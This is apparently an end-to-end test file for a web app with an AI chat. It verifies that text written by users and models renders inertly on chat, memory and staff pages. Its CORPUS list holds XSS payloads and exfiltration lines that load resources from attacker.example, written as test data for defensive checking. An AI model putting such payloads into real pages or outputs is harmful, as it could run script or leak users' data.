import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launch, openWindow } from './support/browser';
import { accessToken, administrator, logIn, newAddress, newMember } from './support/people';

const url = inject('toldUrl');

/** Texts that would run something or fetch something where text is taken for markup. Each would say so. */
const CORPUS = [
  '<script>globalThis.pwned=1</script>',
  '<img src=x onerror="globalThis.pwned=2">',
  '<svg/onload=globalThis.pwned=3>',
  '"><iframe srcdoc="<script>parent.pwned=4</script>"></iframe>',
  '<a href="javascript:globalThis.pwned=5">here</a>',
  '[here](javascript:globalThis.pwned=6)',
  '[here](  JaVaScRiPt:globalThis.pwned=7)',
  '[here](data:text/html,<script>opener.pwned=8</script>)',
  '![leak](https://attacker.example/leak.png?q=secret)',
  '![leak][ref]\n\n[ref]: https://attacker.example/leak2.png',
  '<img src="https://attacker.example/leak3.png">',
  '<style>@import "https://attacker.example/leak4.css";</style>',
  '<link rel=stylesheet href=https://attacker.example/leak5.css>',
  '<details open ontoggle=globalThis.pwned=9><summary>x</summary></details>',
  '<input autofocus onfocus=globalThis.pwned=10>',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.pwned=11>',
  '<form action=https://attacker.example><button>x</button></form>',
  '```html\n<script>globalThis.pwned=12</script>\n```',
  '`<img src=x onerror=globalThis.pwned=13>`',
  '{{constructor.constructor("globalThis.pwned=14")()}}',
  '<base href="https://attacker.example/">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example">',
  '| a |\n|---|\n| <img src=x onerror=globalThis.pwned=15> |',
  '<video poster="https://attacker.example/leak6.png"><source onerror=globalThis.pwned=16></video>',
  '[^1]\n\n[^1]: <img src=x onerror=globalThis.pwned=17>',
  '\u202e<img src=x onerror=globalThis.pwned=18>\u202d',
];

const NAME = '<img src=x onerror=globalThis.pwned=19>';

class Caller {
  constructor(private readonly token: string) {}

  async call<T>(method: string, path: string, body?: object): Promise<T> {
    const response = await fetch(url + path, {
      method,
      headers: {
        Authorization: `Bearer ${this.token}`,
        'Content-Type': 'application/json',
        'X-Support-Reason': 'A test',
      },
      ...(body && { body: JSON.stringify(body) }),
    });
    const text = await response.text();
    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text}`);
    return (text ? JSON.parse(text) : undefined) as T;
  }
}

async function ranAnything(page: Page): Promise<unknown> {
  return page.evaluate(() => (globalThis as unknown as { pwned?: unknown }).pwned);
}

/** Presses what looks like a link in the texts: a link that runs something would run it now. */
async function pressLinks(page: Page): Promise<void> {
  const links = await page.getByRole('link', { name: 'here' }).all();
  for (const link of links) {
    const target = await link.getAttribute('href');
    expect(target ?? '').not.toMatch(/^\s*(javascript|data):/i);
  }
}

describe.runIf(url)('what people and models write', () => {
  let browser: Browser;
  let member: string;
  let memberId: string;
  let staff: string;
  let conversation: string;
  let note: string;

  beforeAll(async () => {
    browser = await launch();
    member = await newMember(url, newAddress('inert'), NAME);
    const own = new Caller(await accessToken(url, member));
    ({ id: memberId } = await own.call<{ id: string }>('GET', '/auth/me'));
    for (const text of CORPUS) {
      const answer = await own.call<{ conversationId: string; reply: string }>('POST', '/api/intelligence/chat', {
        message: `say ${text}`,
        ...(conversation && { conversationId: conversation }),
      });
      expect(answer.reply).toContain(text.slice(-8));
      conversation = answer.conversationId;
      ({ id: note } = await own.call<{ id: string }>('POST', '/api/memory/memories', { content: text }));
      await own.call('POST', '/api/feedback', { category: 'bug', message: text, page: '/chat' });
    }
    await own.call('PATCH', `/api/intelligence/conversations/${conversation}`, { title: CORPUS[1] });
    staff = await administrator(url);
  });
  afterAll(() => browser.close());

  it('is shown to its author as it is, runs nothing and fetches nothing', async () => {
    const { page, misdeeds, context } = await openWindow(browser, url);
    await logIn(page, member);
    await page.getByText(NAME, { exact: false }).first().waitFor();
    await page.goto(`/chat/${conversation}`);
    await page.getByText('pwned=18').first().waitFor();
    await pressLinks(page);
    // Every message is on the screen once, so that none is spared for being far away.
    for (let at = 0; at < CORPUS.length; at++) await page.mouse.wheel(0, -900);
    await page.waitForLoadState('networkidle');
    expect(await ranAnything(page)).toBeUndefined();
    for (const path of ['/memory', `/memory/${note}`, '/profile', '/dashboard']) {
      await page.goto(path);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      await page.waitForLoadState('networkidle');
      await pressLinks(page);
      expect(await ranAnything(page), path).toBeUndefined();
    }
    expect(misdeeds.list).toEqual([]);
    await context.close();
  });

  it('is shown while it streams, runs nothing and fetches nothing', async () => {
    const { page, misdeeds, context } = await openWindow(browser, url);
    await logIn(page, member);
    await page.goto('/chat');
    for (const text of CORPUS.slice(0, 14)) {
      await page.getByLabel('Your message').fill(`say ${text}\n\nEnd.`);
      await page.getByRole('button', { name: 'Send', exact: true }).click();
      await page.getByRole('button', { name: 'Copy the answer' }).last().waitFor();
      await page.getByRole('button', { name: 'Send', exact: true }).waitFor();
    }
    await pressLinks(page);
    expect(await ranAnything(page)).toBeUndefined();
    expect(misdeeds.list).toEqual([]);
    await context.close();
  });

  it('is shown to the staff as it is, runs nothing and fetches nothing', async () => {
    const { page, misdeeds, context } = await openWindow(browser, url);
    await logIn(page, staff);
    for (const path of [
      `/staff/support/people/${memberId}`,
      `/staff/support/conversation/${conversation}`,
      '/staff/administration',
      '/staff/operations',
    ]) {
      await page.goto(path);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      const reason = page.getByLabel('Reason');
      if (await reason.isVisible().catch(() => false)) {
        await reason.fill('A test of texts');
        await reason.press('Enter');
      }
      await page.waitForLoadState('networkidle');
      expect(await ranAnything(page), path).toBeUndefined();
    }
    await page.goto('/staff/administration');
    await page.getByRole('tab', { name: 'Feedback' }).click();
    await page.getByText('pwned=17').first().waitFor();
    expect(await ranAnything(page)).toBeUndefined();
    expect(misdeeds.list).toEqual([]);
    await context.close();
  });
});
